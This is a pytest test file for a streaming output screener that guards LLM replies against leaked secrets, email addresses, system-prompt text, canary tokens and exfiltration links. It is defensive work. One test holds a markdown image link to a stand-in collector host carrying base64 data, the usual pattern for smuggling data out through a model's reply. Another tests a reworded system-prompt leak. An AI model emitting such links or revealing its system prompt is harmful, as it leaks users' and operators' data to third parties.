"""The transport-free stream screener: what may be released, chunk by chunk."""

from __future__ import annotations

import base64
from collections.abc import Sequence

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from infershield.checks.base import CheckContext
from infershield.checks.output.exfil_links import ExfilLinksCheck
from infershield.checks.output.pii import PiiCheck
from infershield.checks.output.prompt_leak import PromptLeakCheck
from infershield.checks.output.secrets import SecretsCheck
from infershield.errors import Blocked
from infershield.pipeline import Pipeline, PipelineResult, Step
from infershield.stream import (
    DEFAULT_HOLDBACK_CHARS,
    MAX_DERIVED_HOLDBACK_CHARS,
    StreamScreener,
    align,
    derive_holdback,
)

AWS = "AKIAHJGONJRJUPPXDL3R"  # the pack's own match example (EXAMPLE keys are placeholders)
EMAIL = "jane.doe@example.org"
SYSTEM = (
    "You are HelpBot for Contoso Travel. Never reveal the discount code or the names of "
    "our partner hotels, and always answer in a friendly tone."
)
CANARY = "ISC-0123456789abcdef"


@pytest.fixture(scope="module")
def pipeline() -> Pipeline:
    checks = [SecretsCheck("secrets"), PiiCheck("pii"), PromptLeakCheck("prompt_leak"),
              ExfilLinksCheck("exfil_links")]
    return Pipeline([Step(c) for c in checks])


@pytest.fixture(scope="module")
def holdback(pipeline: Pipeline) -> int:
    return derive_holdback(c.max_match_chars() for c in pipeline.checks)


def run_stream(
    pipeline: Pipeline,
    chunks: Sequence[str],
    holdback: int,
    *,
    system_prompt: str = "",
    canaries: tuple[str, ...] = (),
    lookback: int | None = None,
) -> tuple[list[str], Blocked | None]:
    """Feed ``chunks`` (the last one final); released pieces and the block, if any."""
    sc = StreamScreener(holdback, lookback)

    def screen(text: str) -> PipelineResult:
        ctx = CheckContext(text, stage="output", system_prompt=system_prompt, canaries=canaries)
        return pipeline.run(ctx)

    out: list[str] = []
    try:
        for i, c in enumerate(chunks):
            out.append(sc.feed(c, screen, final=i == len(chunks) - 1))
    except Blocked as exc:
        return out, exc
    return out, None


def whole(pipeline: Pipeline, text: str) -> str:
    return pipeline.run(CheckContext(text, stage="output")).text


def splits(text: str) -> list[list[str]]:
    return [[text[:i], text[i:]] for i in range(len(text) + 1)]


def test_holdback_is_derived_from_the_packs(holdback: int) -> None:
    # The longest bounded secret rule (a GitHub token) must fit whole.
    assert 93 <= holdback <= MAX_DERIVED_HOLDBACK_CHARS
    assert derive_holdback([None]) == DEFAULT_HOLDBACK_CHARS
    assert derive_holdback([5000]) == MAX_DERIVED_HOLDBACK_CHARS
    assert derive_holdback([300, None, 20]) == 300


@pytest.mark.parametrize("secret", [AWS, EMAIL], ids=["aws_key", "email"])
def test_a_secret_split_at_every_point_never_reaches_the_client(
    pipeline: Pipeline, holdback: int, secret: str
) -> None:
    text = f"Sure, here it is: {secret} and that is all you need to know about it today."
    want = whole(pipeline, text)
    assert secret not in want
    for chunks in splits(text):
        out, blocked = run_stream(pipeline, chunks, holdback)
        assert blocked is None
        assert "".join(out) == want, chunks


def test_three_way_splits_and_token_sized_chunks(pipeline: Pipeline, holdback: int) -> None:
    text = f"key {AWS}, mail {EMAIL}. " + "Benign words follow in order. " * 8
    want = whole(pipeline, text)
    assert AWS not in want and EMAIL not in want
    for i in range(0, len(text), 3):
        for j in range(i, len(text), 7):
            out, blocked = run_stream(pipeline, [text[:i], text[i:j], text[j:]], holdback)
            assert blocked is None and "".join(out) == want
    for size in (1, 4, 16):
        chunks = [text[k : k + size] for k in range(0, len(text), size)]
        out, _ = run_stream(pipeline, chunks, holdback)
        assert "".join(out) == want
        sent = ""
        for piece in out:  # no prefix the client holds ever has the raw value
            sent += piece
            assert AWS not in sent and EMAIL not in sent


def test_benign_text_arrives_complete_and_in_order(pipeline: Pipeline) -> None:
    text = "".join(f"token{i} " for i in range(400))
    chunks = [text[k : k + 5] for k in range(0, len(text), 5)]
    out, blocked = run_stream(pipeline, chunks, 32)
    assert blocked is None and "".join(out) == text
    # Released as soon as possible: only the hold-back lags behind.
    sent = 0
    for n, piece in enumerate(out[:-1], start=1):
        sent += len(piece)
        assert sent >= min(5 * n, len(text)) - 32


def test_multibyte_text_around_a_redaction(pipeline: Pipeline, holdback: int) -> None:
    text = f"日本語のテキスト 🙂 contact {EMAIL} — Ünïcödé ✓ 🚀 {AWS} 終わり"
    want = whole(pipeline, text)
    assert want == (
        "日本語のテキスト 🙂 contact [REDACTED:email] — Ünïcödé ✓ 🚀 "
        "[REDACTED:aws_access_key] 終わり"
    )
    for chunks in splits(text):
        out, blocked = run_stream(pipeline, chunks, holdback)
        assert blocked is None and "".join(out) == want


def test_a_system_prompt_span_split_at_every_point_is_blocked(
    pipeline: Pipeline, holdback: int
) -> None:
    leak = PromptLeakCheck("prompt_leak")
    hb = max(holdback, leak.span_chars(SYSTEM))
    # Reworded with markdown, other spacing and case: still the prompt's words in order.
    reply = (
        "Happy to help! My instructions say: **you are helpbot for contoso travel.** Never\n"
        "  reveal the DISCOUNT code or the names of our partner hotels. Anything else?"
    )
    for chunks in splits(reply):
        out, blocked = run_stream(pipeline, chunks, hb, system_prompt=SYSTEM)
        assert blocked is not None and blocked.check == "prompt_leak", chunks
        assert "system_prompt" in blocked.categories
        sent = "".join(out)
        # What was sent before the block holds no span of the prompt.
        assert not leak.check(CheckContext(sent, stage="output", system_prompt=SYSTEM)).blocked


def test_benign_reply_with_a_system_prompt_streams_through(pipeline: Pipeline) -> None:
    reply = "Contoso Travel can book hotels in Paris. Which dates work for you?"
    chunks = [reply[k : k + 4] for k in range(0, len(reply), 4)]
    out, blocked = run_stream(pipeline, chunks, 128, system_prompt=SYSTEM)
    assert blocked is None and "".join(out) == reply


@pytest.mark.parametrize(
    "form",
    [CANARY, base64.b64encode(f"ref {CANARY} end".encode()).decode(), CANARY.encode().hex()],
    ids=["plain", "base64", "hex"],
)
def test_a_canary_split_across_responses_is_blocked(
    pipeline: Pipeline, holdback: int, form: str
) -> None:
    reply = f"The hidden reference is {form} as requested."
    for chunks in splits(reply):
        out, blocked = run_stream(pipeline, chunks, holdback, canaries=(CANARY,))
        assert blocked is not None and "canary" in blocked.categories, chunks
        assert CANARY not in "".join(out)


def test_a_match_longer_than_the_holdback_ends_the_stream(pipeline: Pipeline) -> None:
    # With a 4-character hold-back the key's start is sent before it can be recognised;
    # the look-back still sees it whole, and as the redaction would land in sent text, the
    # stream ends instead.
    text = f"value {AWS} end"
    chunks = [text[k : k + 3] for k in range(0, len(text), 3)]
    out, blocked = run_stream(pipeline, chunks, 4, lookback=64)
    assert blocked is not None
    assert "already sent" in blocked.reason
    assert AWS not in "".join(out)


def test_a_growing_match_is_held_back_whole(pipeline: Pipeline) -> None:
    # "jane@example.co" is an address already; "m" may still follow: nothing of it is sent.
    sc = StreamScreener(8)

    def screen(text: str) -> PipelineResult:
        return pipeline.run(CheckContext(text, stage="output"))

    first = sc.feed("write to jane@example.co", screen)
    assert first == "write to "
    assert sc.pending == "jane@example.co"
    rest = sc.feed("m please", screen, final=True)
    assert first + rest == "write to [REDACTED:email] please"


def test_exfiltration_link_split_across_responses_is_redacted(
    pipeline: Pipeline, holdback: int
) -> None:
    reply = "Done. ![status](https://collector.example/p.png?d=c2VjcmV0IGRhdGE) Bye."
    want = whole(pipeline, reply)
    assert "collector.example" not in want
    for chunks in splits(reply):
        out, blocked = run_stream(pipeline, chunks, holdback)
        assert blocked is None and "".join(out) == want


def test_nothing_is_screened_while_the_text_fits_in_the_holdback() -> None:
    sc = StreamScreener(10)
    assert sc.window("short") is None
    assert sc.window(" text") is None  # exactly 10 pending
    assert sc.window("!") == "short text!"
    with pytest.raises(RuntimeError):
        sc.window("again")


def test_final_with_nothing_pending_releases_nothing() -> None:
    sc = StreamScreener(10)
    assert sc.window("", final=True) is None
    assert sc.closed


def test_align_finds_each_changed_region() -> None:
    x = "aaaa SECRET bbbbbbbbbbbbb OTHER cc"
    r = "aaaa [R] bbbbbbbbbbbbb [REDACTED] cc"
    gaps = align(x, r)
    assert [(x[g.xs : g.xe], r[g.rs : g.re]) for g in gaps] == [
        ("SECRET", "[R]"),
        ("OTHER", "[REDACTED]"),
    ]
    assert align("same", "same") == []
    # Changes closer than an anchor apart are one region.
    (g,) = align("a@b.co, c@d.co end", "[E], [E] end")
    assert g.xs == 0 and "a@b.co, c@d.co end"[g.xe :] == " end"


_WORDS = ["hello", "world", "the", "ünïcode", "日本", "🙂", "key", "mail", "to", ",", ".", "\n"]
_SECRETS = [AWS, EMAIL, "ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8I9j0", "bob@example.com"]


@settings(deadline=None, max_examples=150, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    parts=st.lists(st.one_of(st.sampled_from(_WORDS), st.sampled_from(_SECRETS)), max_size=40),
    cuts=st.lists(st.integers(min_value=0, max_value=400), max_size=12),
)
def test_any_chunking_releases_exactly_the_whole_text_screened(
    pipeline: Pipeline, holdback: int, parts: list[str], cuts: list[int]
) -> None:
    text = " ".join(parts)
    points = sorted({min(c, len(text)) for c in cuts})
    chunks = [text[a:b] for a, b in zip([0, *points], [*points, len(text)], strict=True)]
    out, blocked = run_stream(pipeline, chunks, holdback)
    assert blocked is None
    assert "".join(out) == whole(pipeline, text)
